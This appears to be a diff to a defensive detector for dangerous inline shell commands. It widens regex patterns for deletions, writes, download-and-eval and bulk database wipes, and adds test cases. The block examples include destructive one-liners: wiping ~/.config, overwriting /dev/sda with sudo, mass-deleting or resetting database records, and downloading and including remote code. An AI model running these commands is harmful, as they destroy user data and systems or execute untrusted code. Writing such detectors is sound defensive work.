@@ -8,7 +8,8 @@
 export const STR_PLAIN = String.raw`(?:'[^'\\]*'|"[^"\\]*"|\`[^\`\\$]*\`)`;
 
 /** Shell text in back quotes or `qx{…}` (Ruby, Perl), or a Groovy string's `.execute()`. */
-export const QUOTED_SHELL = /(?:^|[;{(=]|\bputs|\bprint)\s*`([^`$]+)`|\bqx\s*[{(]([^})]+)[})]|"([^"]+)"\.execute\(\)/g;
+export const QUOTED_SHELL =
+  /(?:^|[;{(=]|\bputs|\bprint)\s*`([^`$]+)`|\bqx\s*[{(]([^})]+)[})]|"([^"]+)"\.execute\(\)|\$`([^`]+)`/g;
 
 /** A string literal in any of the languages (single, double or back quotes without interpolation). */
 export const STR = String.raw`(?:'([^'\\]*)'|"([^"\\]*)"|\`([^\`\\$]*)\`)`;
@@ -17,7 +18,7 @@ export const STR = String.raw`(?:'([^'\\]*)'|"([^"\\]*)"|\`([^\`\\$]*)\`)`;
 export const DELETE_CALL_NAMES = String.raw`shutil\.rmtree|os\.remove|os\.unlink|os\.rmdir|os\.removedirs|Path\(\s*${STR}\s*\)\.(?:unlink|rmdir)|rmSync|rmdirSync|unlinkSync|rm|rmdir|unlink|remove_dir_all|remove_file|FileUtils\.rm_rf|FileUtils\.rm_r|FileUtils\.rm|FileUtils\.remove_dir|FileUtils\.remove_entry|File\.delete|File\.rm_rf!?|File\.rm!?|Deno\.remove|Deno\.removeSync|rmtree|remove_tree|fs\.promises\.rm|rimraf(?:\.sync)?|os\.remove|array_map\(\s*['"]unlink['"]\s*,|os\.truncate\s*\(\s*${STR}\s*,\s*0\s*\)|(?<![.\w])remove|new\s+File\s*\(\s*(?=${STR}\s*\)\s*\.(?:delete|deleteDir)\s*\(\))`;
 
 /** Calls whose first string argument is a path they write, change or move away. */
-export const WRITE_CALL_NAMES = String.raw`open\s*\(\s*${STR}\s*,\s*['"][wa]|writeFileSync|appendFileSync|writeFile|appendFile|File\.write|File\.open\s*\(\s*${STR}\s*,\s*['"][wa]|file_put_contents|os\.chmod|os\.chown|os\.rename|os\.replace|shutil\.move|shutil\.copy(?:file|2)?\s*\(\s*${STR}\s*,|chmodSync|chownSync|renameSync|copyFileSync\s*\(\s*${STR}\s*,|Deno\.writeTextFile|Deno\.writeFile|Bun\.write|File\.chmod|chmod|chown|rename|symlink|symlinkSync|os\.symlink|write_text|write_bytes|IO\.(?:bin)?write|(?<![.\w])write|(?<![.\w])truncate`;
+export const WRITE_CALL_NAMES = String.raw`open\s*\(\s*${STR}\s*,\s*['"](?:[wa]|r\+)|writeFileSync|appendFileSync|writeFile|appendFile|File\.write|File\.open\s*\(\s*${STR}\s*,\s*['"][wa]|file_put_contents|os\.chmod|os\.chown|os\.rename|os\.replace|shutil\.move|shutil\.copy(?:file|2)?\s*\(\s*${STR}\s*,|chmodSync|chownSync|renameSync|copyFileSync\s*\(\s*${STR}\s*,|Deno\.writeTextFile|Deno\.writeFile|Bun\.write|File\.chmod|chmod|chown|rename|symlink|symlinkSync|os\.symlink|write_text|write_bytes|IO\.(?:bin)?write|(?<![.\w])write|(?<![.\w])truncate`;
 
 /** Copies whose second string argument is the path written: `copyFileSync(a, '/etc/hosts')`. */
 export const COPY_CALLS = new RegExp(
@@ -44,19 +45,26 @@ export const HOME_EXPRESSIONS =
 
 /** Code runs something it downloads: an evaluating call and a download in the same code. */
 export const EVALUATES =
-  /\b(eval|exec|load|loadstring|Code\.eval_string|instance_eval|source|iex|Function)\b|\.then\(\s*eval\s*\)|\beval\s*`/;
+  /\b(eval|exec|load|loadstring|Code\.eval_string|instance_eval|source|iex|Function|include)\b|\.then\(\s*eval\s*\)|\beval\s*`/;
 export const DOWNLOADS =
-  /\b(urlopen|requests\.get|urllib|http\.get|https\.get|Net::HTTP|open-uri|URI\.open|fetch\s*\(|Req\.get|HTTPoison|LWP::Simple|file_get_contents\s*\(\s*["'](https?|ftp):|curl\b|wget\b|source\s*\(\s*["']https?:)|\bget\s*\(\s*["']https?:/;
+  /\b(urlopen|requests\.get|urllib|http\.get|https\.get|Net::HTTP|open-uri|URI\.open|fetch\s*\(|Req\.get|HTTPoison|LWP::Simple|file_get_contents\s*\(\s*["'](https?|ftp):|curl\b|wget\b|source\s*\(\s*["']https?:)|\bget\s*\(\s*["']https?:|\bdownload\s*\(\s*["']https?:/;
 
 /** Evaluation of something that is not a literal (decoded, computed, read from the environment or input). */
 export const EVALUATES_COMPUTED =
   /\b(system|shell_exec|passthru|popen)\s*\(\s*(\$?[A-Za-z_]\w*(\[\w+\])?|\$\d+)\s*\)|\b(eval|loadstring|Code\.eval_string|instance_eval)\s*\(?\s*(?!['"`]|\)|$)|\bload\s*\(\s*string\.char|\beval\s*$|;\s*eval\b\s*['"]?$|\beval\s+(pack|decode_base64|unpack|\$)/;
 
 /** ORM and client calls that empty a whole table, store or cache. */
-export const STORE_WIPES: [RegExp, "sql_delete_without_where" | "cache_flush" | "sql_drop" | "sql_truncate"][] = [
-  [/\b(execute|query|exec|raw|run)\s*\(\s*['"`]\s*TRUNCATE\b/i, "sql_truncate"],
+export const STORE_WIPES: [
+  RegExp,
+  "sql_delete_without_where" | "sql_update_without_where" | "cache_flush" | "sql_drop" | "sql_truncate",
+][] = [
   [
-    /\b(execute|query|exec|raw|run)\s*\(\s*['"`]\s*DELETE\s+FROM\s+[\w."`]+\s*;?\s*['"`]|\.delete\(\)\.execute\(\)|\.objects\.all\(\)\.delete\(\)|\.query\.delete\(\)|\b[A-Z]\w*(\.all)?\.(delete_all|destroy_all)\b|\bknex\([^)]*\)\.del\(\)|->delete\(\)\s*;|\.deleteMany\(\s*\{\s*\}\s*\)|\.objects\.all\(\)\s*\]|\.delete_objects\(|\.delete_blob\(/,
+    /[(,]\s*['"`]\s*TRUNCATE\s+(TABLE\s+)?[\w."]+(\s+(CASCADE|RESTRICT|(RESTART|CONTINUE)\s+IDENTITY))*\s*;?\s*['"`]\s*[),]/i,
+    "sql_truncate",
+  ],
+  [/\.update_all\(|\.updateMany\(\s*\{\s*\}/, "sql_update_without_where"],
+  [
+    /[(,]\s*['"`]\s*DELETE\s+FROM\s+[\w."`]+\s*;?\s*['"`]\s*[),]|\.delete\(\)\.execute\(\)|\.objects\.all\(\)\.delete\(\)|\.query\.delete\(\)|\b[A-Z]\w*(\.all)?\.(delete_all|destroy_all)\b|\bknex\([^)]*\)\.del\(\)|(?:::query\(\)|::all\(\)|table\([^)]*\))->delete\(\)|\.deleteMany\(\s*(\{\s*\})?\s*\)|\.objects\.all\(\)\s*\]|\.delete_objects\(|\.delete_blob\(/,
     "sql_delete_without_where",
   ],
   [/\.flushall\(\)|\.flushdb\(\)|execute_command\(\s*['"]FLUSH(ALL|DB)/i, "cache_flush"],
@@ -124,6 +132,13 @@ export const INLINE_EXAMPLES = {
     "perl -e 'kill 9, -1'",
     "perl -e 'while(1){ push @a, \"x\" x 1e6 }'",
     "node -e \"for(;;) require('fs').appendFileSync('/tmp/big.log', 'x'.repeat(1e6))\"",
+    "bun -e 'await Bun.$`rm -rf ${process.env.HOME}/.config`'",
+    "julia -e 'using Downloads; include(Downloads.download(\"https://example.org/setup.jl\"))'",
+    "rails runner 'User.update_all(confirmed_at: nil)'",
+    "php artisan tinker --execute='App\\Models\\Invoice::query()->delete();'",
+    "mix run -e 'MyApp.Repo.delete_all(MyApp.Accounts.User)'",
+    "perl -MFile::Path=remove_tree -e 'remove_tree(\"$ENV{HOME}/.config\")'",
+    "sudo python3 -c \"open('/dev/sda','r+b').write(b'0'*512)\"",
   ],
   pass: [
     "python3 -c \"import shutil; shutil.rmtree('build')\"",
@@ -143,6 +158,9 @@ export const INLINE_EXAMPLES = {
     "ruby -e 'puts `git rev-parse HEAD`'",
     "node -e \"require('pg').Pool().query('DELETE FROM sessions WHERE expires < now()')\"",
     "perl -e 'kill 0, $pid'",
+    "php artisan tinker --execute='App\\Models\\Invoice::find(1)->delete();'",
+    "node -e \"console.log('DELETE FROM users;'.length)\"",
+    "python3 -c \"print('TRUNCATE is a SQL verb')\"",
     "python3 -c \"import time\nwhile True: open('beat','w').write('x'); time.sleep(5)\"",
   ],
 };
